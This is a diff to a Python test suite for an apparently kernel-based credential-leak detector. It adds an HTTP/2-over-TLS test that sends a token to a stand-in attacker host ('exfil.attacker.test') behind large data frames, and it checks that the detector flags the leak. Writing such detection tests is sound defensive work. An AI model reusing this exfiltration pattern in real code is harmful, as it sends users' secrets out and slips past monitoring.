@@ -11,7 +11,8 @@ import tempfile
 import threading
 import time
 
-from cwtest import Agent, Skip, github_token, kernel_map, require_root, wait_until
+from cwtest import (Agent, Skip, github_token, h2_frame, hpack_literal, kernel_map,
+                    require_root, wait_until)
 
 EVIL = "exfil.attacker.test"
 
@@ -552,6 +553,41 @@ def test_request_in_one_large_write_with_its_body_after_others_like_it():
     assert hits[0]["tls"]["library"] == "openssl"
     holes = int(agent.stderr().split(" holes past the payload budget")[0].split("(")[-1])
     assert holes >= 1, agent.stderr()
+    agent.assert_no_plaintext(token)
+
+
+def test_h2_headers_after_the_last_data_frame_in_one_tls_write():
+    """An h2 client over TLS writes an upload's last DATA frame and the next request's HEADERS
+    frame in one SSL_write. Past the payload budget the kernel finds the HEADERS frame behind
+    the DATA frame and copies that frame alone: the token after a long cookie is found."""
+    require_root()
+    agent = Agent("--include-loopback")
+    sink = TlsSink()
+    token = github_token()
+    s = None
+    try:
+        s = client_ctx().wrap_socket(socket.create_connection(("127.0.0.1", sink.port)),
+                                     server_hostname=EVIL)
+        authority = hpack_literal(b":authority", EVIL.encode())
+        s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b""))
+        s.sendall(h2_frame(1, 4, 1, authority))
+        for _ in range(20):
+            s.sendall(h2_frame(0, 0, 1, b"u" * 16384))
+        request = h2_frame(1, 5, 3, authority + hpack_literal(b"cookie", b"c" * 1500) +
+                           hpack_literal(b"authorization", b"token " + token.encode()))
+        s.sendall(h2_frame(0, 1, 1, b"u" * 16384) + request)
+        fp = agent.key.fingerprint(token)
+        hits = agent.wait_for(lambda l: l["event"]["action"] ==
+                              "credential-unexpected-destination" and
+                              l["credential"]["fingerprint"] == fp, timeout=5)
+    finally:
+        if s:
+            s.close()
+        agent.stop()
+        sink.close()
+    assert len(hits) == 1, agent.stderr()
+    assert hits[0]["tls"]["library"] == "openssl"
+    assert hits[0]["destination"]["domain"] == EVIL
     agent.assert_no_plaintext(token)
 
 
